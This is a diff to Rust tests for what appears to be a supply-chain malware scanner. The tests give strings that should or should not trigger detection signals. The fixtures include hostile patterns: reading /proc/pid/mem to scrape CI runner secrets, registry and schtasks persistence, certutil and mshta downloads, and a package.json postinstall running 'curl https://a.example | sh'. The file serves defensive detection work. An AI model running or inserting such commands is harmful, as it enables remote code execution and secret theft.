@@ -99,7 +99,7 @@ fn stolen_secrets() {
     check(
         SignalKind::ProcessMemory,
         &["fs.openSync(`/proc/${pid}/mem`)", "'/proc/' + pid + '/mem'", "find('Runner.Worker')"],
-        &["'/proc/meminfo'", "`/proc/${pid}/stat`", "'/proc/self/maps'", "`/proc/${pid}/memory`"],
+        &["this.runner.workerTimeout", "'/proc/meminfo'", "`/proc/${pid}/stat`", "'/proc/self/maps'", "`/proc/${pid}/memory`"],
     );
     check(
         SignalKind::SecretScanner,
@@ -183,7 +183,7 @@ fn what_spreads_stays_and_destroys() {
             "'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'",
             "schtasks /create /tn x",
         ],
-        &["// crontab syntax: * * * * *", "systemctl status x", "'/etc/systemd/resolved.conf'", "Library/Caches", "CurrentVersion\\\\Uninstall"],
+        &["// crontab syntax: * * * * *", "/cron|crontab|csplit/", "systemctl status x", "'/etc/systemd/resolved.conf'", "Library/Caches", "CurrentVersion\\\\Uninstall"],
     );
     check(SignalKind::DetachedProcess, &["spawn(a, [], { detached: true })", "{detached:!0}"], &["detached: false", "isDetached: x"]);
 }
@@ -226,9 +226,11 @@ fn what_speaks_to_the_world() {
             "certutil -urlcache -f https://a.example x",
             "mshta https://a.example",
         ],
-        &["curl https://a.example > file", "curl x || sh y", "const curl = 1 | shift", "wget -O file https://a.example"],
+        &["curl https://a.example > file", "curl x || sh y", "const curl = 1 | shift", "wget -O file https://a.example", "keywords: 'iex ihy iwmi iwr kill irm ise'"],
     );
-    check_in("package.json", SignalKind::DownloadToShell, &[r#"{"scripts":{"postinstall":"curl https://a.example | sh"}}"#], &[]);
+    let told = crate::ecosystem::scan::of_commands("curl https://a.example | sh", "package.json");
+    assert!(matches!(told.as_slice(), [one] if one.kind == SignalKind::DownloadToShell && one.file == "package.json"), "{told:?}");
+    check_in("package.json", SignalKind::DownloadToShell, &[], &[r#"{"scripts":{"setup":"curl https://a.example | sh"}}"#]);
     check(
         SignalKind::RuntimeDownload,
         &["exec('https://bun.sh/install')", "'https://host.example/oven-sh/bun/releases/download/v1/bun.zip'"],
